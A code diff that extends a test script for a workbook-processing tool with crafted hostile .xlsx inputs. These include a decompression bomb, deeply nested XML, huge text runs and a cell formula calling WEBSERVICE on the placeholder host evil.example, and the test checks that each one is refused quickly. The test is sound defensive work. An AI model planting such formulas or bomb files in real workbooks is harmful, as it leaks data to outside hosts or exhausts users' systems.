@@ -4,7 +4,7 @@
 // workbook beyond the size limit is refused.
 import { spawnSync } from "node:child_process";
 import { createRequire } from "node:module";
-import { existsSync, mkdtempSync, statSync, writeFileSync } from "node:fs";
+import { existsSync, mkdtempSync, rmSync, statSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
@@ -86,6 +86,36 @@ const refusedIn = Number(process.hrtime.bigint() - t0) / 1e9;
 const code = JSON.parse(refused.stdout.trim().split("\n").pop() || "{}").code;
 console.log(`  a workbook claiming ${MAX_UNPACKED_MB + 100} MB unpacked: exit ${code} in ${refusedIn.toFixed(2)} s — ${refused.stderr.trim().split("\n")[0]}`);
 if (code !== 1 || refusedIn > 10 || existsSync(join(dir, "over-limit.out.xlsx"))) failures.push(`a workbook beyond the limit was not refused at once (exit ${code}, ${refusedIn} s)`);
+
+// Crafted files (issue 20), at full size: each must end within 30 s and 500 MB, with a message,
+// and leave no output. Built small on disk by test/support/craftedFiles.cjs.
+const crafted = require("../test/support/craftedFiles.cjs");
+const planted = (row) => crafted.withOriginals([row]);
+const CRAFTED = [
+  ["100,000 nested elements holding text in workbook.xml", () => crafted.nestedText(100_000), []],
+  ["a sheet cell holding a 200 MB text run", () => crafted.longTextRun(200_000_000), []],
+  ["a part stated as 1 KB inflating to 2.5 GB", () => crafted.inflatesBeyondStated(2_500_000_000), []],
+  ["500 MB of identical cells", () => crafted.denseCells(500), []],
+  ["a part named twice", () => crafted.duplicateEntry(), []],
+  ["a relationship to a missing part", () => crafted.danglingRelationship(), []],
+  ["--restore, a written range of A1:XFD1048576", () => planted(["Usage", "A1", '=_xldudf_AIECON_COSTPERINTERACTION(B2,C2,"gpt-4o")', "", "A1:XFD1048576", "2026-12-01"]), ["--restore"]],
+  ["--restore, a WEBSERVICE formula", () => planted(["Usage", "H2", '=WEBSERVICE("http://evil.example/")', "", "", "2026-12-01"]), ["--restore"]],
+];
+console.log("crafted files (each must end within 30 s and 500 MB, refused with exit 1)");
+for (const [label, make, flags] of CRAFTED) {
+  const bytes = await make();
+  const input = join(dir, "crafted.xlsx");
+  const output = join(dir, "crafted.out.xlsx");
+  writeFileSync(input, bytes);
+  const r = spawnSync(process.execPath, ["-e", runner, input, output, "--force", ...flags], { encoding: "utf8" });
+  const m = JSON.parse(r.stdout.trim().split("\n").pop() || "{}");
+  const ok = m.code === 1 && m.seconds < 30 && m.maxRssMb < 500 && !existsSync(output);
+  if (!ok) failures.push(`crafted: ${label}: exit ${m.code}, ${m.seconds} s, ${m.maxRssMb} MB`);
+  const message = r.stderr.trim().split("\n")[0].replace(/^aiecon-share: Cannot read \S+ as an \.xlsx workbook: /, "");
+  console.log(`  ${ok ? "PASS" : "FAIL"}  ${label} (${(bytes.length / 1e3).toFixed(0)} KB): exit ${m.code} in ${m.seconds.toFixed(2)} s, peak ${m.maxRssMb.toFixed(0)} MB — ${message.slice(0, 110)}`);
+}
+
+rmSync(dir, { recursive: true, force: true });
 if (failures.length) {
   console.error(failures.join("\n"));
   process.exit(1);
